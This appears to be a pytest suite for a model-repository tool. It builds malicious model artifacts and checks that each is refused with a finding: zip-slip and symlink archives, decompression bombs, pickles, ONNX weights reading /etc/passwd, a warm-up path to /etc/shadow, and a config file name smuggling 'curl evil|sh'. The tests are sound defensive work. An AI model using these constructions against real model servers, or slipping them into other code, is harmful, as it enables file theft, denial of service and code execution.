"""Malicious artifacts, through the whole way in: unpack, validate, publish. Each is refused, with a finding."""

import gzip
import io
import json
import subprocess
import sys
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
import pytest
from onnx import TensorProto, helper, numpy_helper

from tests.model_repository_tools.graphs import field, save_double, save_model, tensor, varint
from tests.model_repository_tools.inspection.folders import PICKLE, PLAN, PYTHON

MIB = 1 << 20
CONFIG_IO = 'input { name: "x" data_type: TYPE_FP32 dims: 4 } output { name: "y" data_type: TYPE_FP32 dims: 4 }'
ALLOWED_KIB = 400 << 10
"""Of the largest process: the child's address space is limited to 1 GiB, an interpreter with onnx takes 100 MiB."""

WAY_IN = """
import json, resource, sys
from pathlib import Path
from model_repository_tools.findings import Finding
from model_repository_tools.repository import FolderRepository
from model_repository_tools.config import render_config
from model_repository_tools.unpacking import unpack_to_folder
from model_repository_tools.validation import validate_version

source, place = map(Path, sys.argv[1:])
report = unpack_to_folder(source, place / "version")
findings, published = list(report.findings), False
if report.is_complete:
    validation = validate_version(place / "version", "m.v1", 1)
    findings += validation.findings
    if validation.is_publishable():
        repository = FolderRepository(place / "models")
        files = {file.path: place / "version" / file.path for file in report.files}
        repository.commit(repository.stage("p", "m.v1", 1, files=files, config_text=render_config(validation.config)))
        published = True
# Not ru_maxrss for ourselves: across exec it keeps the peak of whoever started us.
status = Path("/proc/self/status").read_text()
own = int(status.split("VmHWM:")[1].split()[0])
kib = max(own, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
print(json.dumps({"codes": [f.code for f in findings], "published": published, "kib": kib}))
"""


def graph(*edits: Callable[[onnx.ModelProto], None]) -> bytes:
    model = helper.make_model(
        helper.make_graph(
            [helper.make_node("Add", ["x", "w"], ["y"])],
            "graph",
            [tensor("x", ["b", 4])],
            [tensor("y", ["b", 4])],
            initializer=[numpy_helper.from_array(np.ones((1, 4), np.float32), "w")],
        ),
        opset_imports=[helper.make_opsetid("", 17)],
        ir_version=8,
    )
    for edit in edits:
        edit(model)
    content: bytes = model.SerializeToString()
    return content


def external(location: str) -> Callable[[onnx.ModelProto], None]:
    def edit(model: onnx.ModelProto) -> None:
        weights = model.graph.initializer[0]
        weights.ClearField("raw_data")
        weights.data_location = TensorProto.EXTERNAL
        weights.external_data.add(key="location", value=location)

    return edit


def shape(*dims: int) -> Callable[[onnx.ModelProto], None]:
    def edit(model: onnx.ModelProto) -> None:
        model.graph.input[0].CopyFrom(tensor("x", dims))

    return edit


def operator(domain: str) -> Callable[[onnx.ModelProto], None]:
    def edit(model: onnx.ModelProto) -> None:
        model.graph.node[0].domain = domain

    return edit


def nested(depth: int) -> bytes:
    body = b""
    for _ in range(depth):
        body = field(1, field(5, field(6, body)))  # graph.node.attribute.g
    return b"\x08\x08" + field(7, body)


def config(line: str) -> str:
    return f'backend: "onnxruntime" max_batch_size: 8 {CONFIG_IO} {line}'


FILES: list[tuple[str, dict[str, bytes | str], str]] = [
    ("weights read from /etc", {"model.onnx": graph(external("/etc/passwd"))}, "onnx.external_data_escapes"),
    ("weights read from above", {"model.onnx": graph(external("../../x"))}, "onnx.external_data_escapes"),
    ("weights that are missing", {"model.onnx": graph(external("w.bin"))}, "onnx.external_data_missing"),
    ("a dimension that overflows", {"model.onnx": graph(shape(9223372036854775807, 64))}, "onnx.bad_shape"),
    ("a negative dimension", {"model.onnx": graph(shape(-5, 64))}, "onnx.bad_shape"),
    ("operators from a library", {"model.onnx": graph(operator("evil"))}, "onnx.custom_operators"),
    ("graphs in graphs", {"model.onnx": nested(200)}, "onnx.too_deep"),
    ("a length beyond the file", {"model.onnx": b"\x3a" + varint(1 << 40) + b"x"}, "onnx.not_a_model"),
    ("an endless number", {"model.onnx": b"\xff" * 1000}, "onnx.not_a_model"),
    ("a million empty nodes", {"model.onnx": field(7, b"\x0a\x00" * 2_000_000)}, "onnx.no_graph"),
    ("a pickle", {"model.pkl": PICKLE}, "code.pickle"),
    ("a pickle that claims to be weights", {"model.onnx": graph(), "w.bin": PICKLE}, "code.pickle"),
    ("a pickle that claims to be a graph", {"model.onnx": PICKLE}, "code.pickle"),
    ("a library", {"model.onnx": graph(), "ops.so": b"\x7fELF"}, "code.native_library"),
    ("a library that claims to be a plan", {"model.plan": b"\x7fELF" + PLAN}, "code.native_library"),
    ("a stub of the python backend", {"model.onnx": graph(), "triton_python_backend_stub": b"x"}, "code.backend_stub"),
    ("a program", {"model.py": PYTHON, "config.pbtxt": f'backend: "python" {CONFIG_IO}'}, "code.python_backend"),
    ("a program that crashes its reader", {"model.py": b"(" * 500_000}, "code.python_backend"),
    (
        "a library of operators",
        {"model.onnx": graph(), "config.pbtxt": config('model_operations { op_library_filename: "/tmp/x.so" }')},
        "code.op_library",
    ),
    ("a runtime", {"model.onnx": graph(), "config.pbtxt": config('runtime: "/tmp/x.so"')}, "code.runtime"),
    (
        "an environment of programs",
        {
            "model.onnx": graph(),
            "config.pbtxt": config('parameters { key: "EXECUTION_ENV_PATH" value { string_value: "/x.tar.gz" } }'),
        },
        "code.execution_env",
    ),
    (
        "an agent",
        {"model.onnx": graph(), "config.pbtxt": config('model_repository_agents { agents { name: "x" } }')},
        "code.agents",
    ),
    (
        "an unknown backend",
        {"model.onnx": graph(), "config.pbtxt": f'backend: "evil" {CONFIG_IO}'},
        "code.unknown_backend",
    ),
    (
        "a command as a file name",
        {"model.onnx": graph(), "config.pbtxt": config('default_model_filename: "x;curl evil|sh"')},
        "code.model_filename",
    ),
    (
        "warm-up data from outside",
        {
            "model.onnx": graph(),
            "config.pbtxt": config(
                'model_warmup { name: "w" inputs { key: "x" value { input_data_file: "../../../etc/shadow" } } }'
            ),
        },
        "config.path_escapes",
    ),
    (
        "a configuration of huge dimensions",
        {"model.plan": PLAN, "config.pbtxt": 'backend: "tensorrt" input { name: "x" data_type: TYPE_FP32 dims: 1e30 }'},
        "config.malformed",
    ),
    ("a configuration of braces", {"model.onnx": graph(), "config.pbtxt": "input { " * 50_000}, "config.malformed"),
    ("a configuration of megabytes", {"model.onnx": graph(), "config.pbtxt": "#" * (2 * MIB)}, "config.too_large"),
]


def pack(path: Path, files: dict[str, bytes | str]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)


def slip(path: Path) -> None:
    pack(path, {"model.onnx": graph(), "../../evil.txt": b"evil"})


def absolute(path: Path) -> None:
    pack(path, {"model.onnx": graph(), str(path.parent / "evil.txt"): b"evil"})


def zip_link(path: Path) -> None:
    link = zipfile.ZipInfo("weights.bin")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model.onnx", graph())
        archive.writestr(link, "/etc/passwd")


def tar_link(path: Path) -> None:
    with tarfile.open(path, "w:gz") as archive:
        link, file = tarfile.TarInfo("w"), tarfile.TarInfo("w/evil.txt")
        link.type, link.linkname, file.size = tarfile.SYMTYPE, "../..", 4
        archive.addfile(link)
        archive.addfile(file, io.BytesIO(b"evil"))


def hard_link(path: Path) -> None:
    with tarfile.open(path, "w") as archive:
        link = tarfile.TarInfo("model.onnx")
        link.type, link.linkname = tarfile.LNKTYPE, "/etc/passwd"
        archive.addfile(link)


def device(path: Path) -> None:
    with tarfile.open(path, "w") as archive:
        entry = tarfile.TarInfo("model.onnx")
        entry.type, entry.devmajor, entry.devminor = tarfile.CHRTYPE, 1, 5
        archive.addfile(entry)


def bomb(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("model.onnx", "w") as entry:
        for _ in range(1024):
            entry.write(bytes(MIB))


def tar_bomb(path: Path) -> None:
    entry = tarfile.TarInfo("model.onnx")
    entry.size = 1 << 50
    with gzip.open(path, "wb", 9) as file:
        file.write(entry.tobuf())
        file.write(bytes(MIB))


def twins(path: Path) -> None:
    pack(path, {"model.onnx": graph(), "Model.onnx": PICKLE})


def plain_weights_bomb(path: Path) -> None:
    """A model of small, sound parts that asks for a terabyte when its shapes are believed."""
    save_model(
        path.parent / "big.onnx",
        [helper.make_node("Identity", ["x"], ["y"])],
        [tensor("x", [2147483648, 1024])],
        [tensor("y", [2147483648, 1024])],
    )
    pack(path, {"model.onnx": (path.parent / "big.onnx").read_bytes()})
    (path.parent / "big.onnx").unlink()


ARCHIVES: list[tuple[Callable[[Path], None], str]] = [
    (slip, "path.traversal"),
    (absolute, "path.absolute"),
    (zip_link, "unpack.not_a_file"),
    (tar_link, "unpack.not_a_file"),
    (hard_link, "unpack.not_a_file"),
    (device, "unpack.not_a_file"),
    (bomb, "unpack.too_large"),
    (tar_bomb, "unpack.file_too_large"),
    (twins, "path.collision"),
    (plain_weights_bomb, "onnx.bad_shape"),
]


def refused(source: Path) -> list[str]:
    """Take an artifact the whole way in, in a process of its own; return the findings after checking the rest."""
    top = source.parent
    (top / "deep" / "place").mkdir(parents=True)
    done = subprocess.run(
        [sys.executable, "-c", WAY_IN, source, top / "deep" / "place"], capture_output=True, text=True, check=True
    )
    result = json.loads(done.stdout)
    assert not result["published"]
    assert result["kib"] < ALLOWED_KIB
    assert not done.stderr
    assert sorted(path.name for path in top.iterdir()) == ["artifact", "deep"]
    assert [path.name for path in (top / "deep").iterdir()] == ["place"]
    assert {path.name for path in (top / "deep" / "place").iterdir()} <= {"version"}
    codes: list[str] = result["codes"]
    return codes


@pytest.mark.parametrize(("make", "code"), ARCHIVES, ids=[make.__name__ for make, _ in ARCHIVES])
def test_a_malicious_archive_is_refused(tmp_path: Path, make: Callable[[Path], None], code: str) -> None:
    make(tmp_path / "artifact")
    assert set(refused(tmp_path / "artifact")) == {code}


@pytest.mark.parametrize(("files", "code"), [row[1:] for row in FILES], ids=[row[0] for row in FILES])
def test_a_malicious_version_is_refused(tmp_path: Path, files: dict[str, bytes | str], code: str) -> None:
    pack(tmp_path / "artifact", files)
    assert code in refused(tmp_path / "artifact")


def test_a_sound_version_gets_in_the_same_way(tmp_path: Path) -> None:
    save_double(tmp_path / "model.onnx")
    pack(tmp_path / "artifact", {"model.onnx": (tmp_path / "model.onnx").read_bytes(), "config.pbtxt": config("")})
    (tmp_path / "place").mkdir()
    done = subprocess.run(
        [sys.executable, "-c", WAY_IN, tmp_path / "artifact", tmp_path / "place"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert json.loads(done.stdout)["published"]
    assert (tmp_path / "place/models/m.v1/1/model.onnx").exists()
